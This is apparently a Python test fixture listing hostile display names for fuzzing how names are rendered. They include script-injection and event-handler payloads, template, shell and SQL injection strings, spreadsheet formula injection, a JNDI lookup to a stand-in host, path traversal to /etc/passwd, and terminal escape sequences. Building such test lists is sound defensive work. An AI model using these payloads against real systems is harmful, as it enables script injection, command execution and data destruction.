"""Names as somebody may put them into a column, a group or a file, to drive what shows them."""

from __future__ import annotations

NAMES = [
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "</text><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "`onload=alert(1)`",
    "--><script>alert(1)</script>",
    "<!--", "]]><script>alert(1)</script>", "<![CDATA[x]]>", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e 'v'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//evil.example>", "<math><mi xlink:href=x>",
    "<details open ontoggle=alert(1)>", "<template><b>", "<object data=x>", "<form action=//evil.example><input>",
    "{{7*7}}", "${7*7}", "{% for x in y %}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%s%n",
    "}</style>", "x{background:url(//evil.example)}", "expression(alert(1))", "@import '//evil.example'",
    "\u202egnp.exe", "\u2066x\u2069", "\u200b\u200b", "\ufeffname", "a\u0301\u0301\u0301\u0301", "\x1b[31mred\x1b[0m",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x9b2J", "\x00", "a\x08b", "line\nbreak", "\r\nSet-Cookie: x=1",
    "\n::error file=x::injected", "::set-output name=x::y", "%0A::error::x", "\u2028\u2029", "\ud800", "\U000e0041",
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "| a | b |", "```\ncode", "[link](javascript:alert(1))", "![x](http://evil)",
    "<http://evil.example>", "https://evil.example", "www.evil.example", "@everyone", "#1", "*bold* _it_ ~~s~~",
    "a\\|b",
    "../../etc/passwd", "file:///etc/passwd", "A" * 5_000, "名前", "שלום", "", " ", "\u00a0",
    # HTML: more ways in
    "<body onload=alert(1)>", "<input onfocus=alert(1) autofocus>", "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<embed src=javascript:alert(1)>", "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<button formaction=javascript:alert(1)>x", "<img src=`x`onerror=alert(1)>", "<img/src/onerror=alert(1)>",
    "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "\u003cscript\u003ealert(1)", "<script\x20>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script>", "<plaintext>", "<listing>&lt;img src=x onerror=alert(1)&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<dialog open>", "<portal src=//evil.example>",
    "<p id=body>", "<form id=document><input name=cookie>", "<img name=getElementById>", "</h1></main></body></html>",
    "<style>*{display:none}</style>", "<title>x", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><use href=data:image/svg+xml,x>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<svg><a xlink:href=javascript:alert(1)><text>x",
    "</svg><img src=x onerror=alert(1)>", "</desc><script>alert(1)</script>", "<![endif]--><script>alert(1)</script>",
    # addresses that run
    "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:https://evil.example/x", "//evil.example/x",
    "\\\\evil.example\\share", "file://evil.example/x", "view-source:javascript:alert(1)",
    # attributes and quotes
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "x\" style=\"background:url(//evil.example)",
    "x' style='x", "\" autofocus onfocus=alert(1) x=\"", "&quot; onmouseover=&quot;alert(1)", "&#34;>", "&apos;",
    "\"'`<>&", "&", "&amp;amp;", "&nbsp;", "&;", "&#x0;", "&#xD800;", "&#1114112;", "<", ">", "\"", "'", "`",
    # styles
    "*{x:expression(alert(1))}", "x{behavior:url(x.htc)}", "x{-moz-binding:url(//evil.example)}", "\\3c script\\3e",
    "/*", "*/", "}}}", "x;}body{display:none", "url('//evil.example')", "var(--x)",
    # characters that hide, turn or join
    "\u202dabc\u202c", "\u2067rtl\u2069", "\u061cx", "\u200ex\u200f", "\u00adsoft", "x\u2060y", "x\u180ey",
    "\ufff9a\ufffab\ufffb", "\U000e0001\U000e0062", "\u0085next", "\u000bvertical", "\u000cform", "\x7fdelete",
    "\ufffe", "\U0010ffff", "\udfff\ud800", "Ａdmin", "аdmin", "ﬀ", "İ", "\u0300combining",
    # terminals and logs
    "\x1b]0;title\x07", "\x1b[2J\x1b[H", "\x1b[1000B", "\x1bP+q544e\x1b\\", "\x1bc", "\x9d0;x\x9c", "\x07\x07",
    "a\rb", "\r\n\r\n<html>", "HTTP/1.1 200 OK\r\n", "2026-11-21 INFO forged line", "\n2026-11-21 INFO forged line",
    # sheets
    "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+cmd|'/c calc'!A0", "-2+3+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "\r=1+1", "＝1+1", "＋1+1x", "\"=1+1\"",
    "a,b", "a;b", "a\tb", "\"a\"\"b", "a\"b,c\nd",
    # templates, formats and shells
    "{{constructor.constructor('alert(1)')()}}", "{{''.__class__.__mro__}}", "{%import os%}", "${{7*7}}",
    "<#assign x=1>",
    "*{7*7}", "@(7*7)", "[[${7*7}]]", "{0}", "{}", "%(x)s", "%1$s", "$(id)", "`id`", "; id", "| id", "|| true", "&& id",
    "' OR '1'='1", "'; DROP TABLE records; --", "\" OR 1=1", "${jndi:ldap://evil.example/x}", "__proto__",
    "constructor",
    "toString", "null", "undefined", "NaN", "true", "None", "0", "-0", "1e999", "0x1F", "\\", "\\n", "\\u0000", "%00",
    "%n%n%n",
]
